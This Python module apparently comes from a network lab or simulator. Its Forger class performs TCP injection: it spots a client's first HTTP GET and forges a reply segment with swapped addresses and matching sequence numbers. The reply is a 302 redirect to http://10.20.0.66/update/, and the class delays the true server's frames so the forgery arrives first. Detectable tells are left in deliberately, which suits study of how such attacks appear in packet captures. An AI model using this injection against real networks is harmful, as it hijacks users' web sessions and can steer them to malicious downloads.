"""An attacker beside the road: sees a request, answers first.

The forged segment has the true addresses, ports and sequence numbers, so the client takes it; the true answer
arrives later at the same place of the stream and the client throws away what it believes to have. A
capture holds both. The lies that give it away are left in: another TTL, another IP id, no TCP timestamp.
"""

from __future__ import annotations

from .headers import ACK, PSH, Segment, with_checksum

PAGE = b"""HTTP/1.1 302 Found\r
Location: http://10.20.0.66/update/\r
Content-Length: 0\r
Connection: close\r
\r
"""

HOLD_MS = 25.0
"""How much later than the forged answer the true one comes."""


class Forger:
    """Answers the first GET of a connection with a redirect, if told so."""

    def __init__(self, what: str) -> None:
        if what not in ("", "redirect"):
            raise ValueError(f"no such forgery: {what}")
        self._active = bool(what)
        self._victim: tuple[str, int, str, int] | None = None

    def answer(self, segment: Segment, up: bool) -> bytes | None:
        """The forged frame to the client, once."""
        if not (self._active and up and segment.payload.startswith(b"GET ")):
            return None
        self._active = False
        self._victim = segment.key
        ether = segment.ether[6:12] + segment.ether[:6] + segment.ether[12:]
        ip = segment.ip
        ip = with_checksum(ip[:4] + b"\x13\x37\0\0\xfe" + ip[9:12] + ip[16:20] + ip[12:16])
        return Segment(
            ether, ip, segment.destination, segment.destination_port, segment.source, segment.source_port,
            segment.ack, segment.seq + len(segment.payload), ACK | PSH, 501, b"", PAGE,
        ).frame()  # fmt: skip

    def hold_ms(self, segment: Segment, up: bool) -> float:
        """Extra delay of the true server's frames to the victim."""
        if up or self._victim is None:
            return 0.0
        source, port, destination, destination_port = self._victim
        return HOLD_MS if segment.key == (destination, destination_port, source, port) else 0.0
